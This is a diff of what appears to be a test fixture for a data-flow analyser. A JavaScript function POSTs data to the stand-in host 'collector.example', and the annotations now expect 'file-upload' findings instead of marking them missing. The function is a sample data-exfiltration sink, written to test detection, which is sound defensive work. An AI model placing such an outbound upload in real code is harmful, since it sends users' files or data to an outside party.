@@ -22,7 +22,7 @@ const https = require('https');
 
 function send(path, body) {
   const request = https.request({ hostname: 'collector.example', method: 'POST', path });
-  request.write(body); //~ sink(egress.http) f1, sink(egress.http) f2, MISSING: finding(file-upload, traced) f1, finding(file-upload, traced) f2
+  request.write(body); //~ sink(egress.http) f1, sink(egress.http) f2, finding(file-upload, traced) f1, finding(file-upload, traced) f2
   request.end();
 }
 
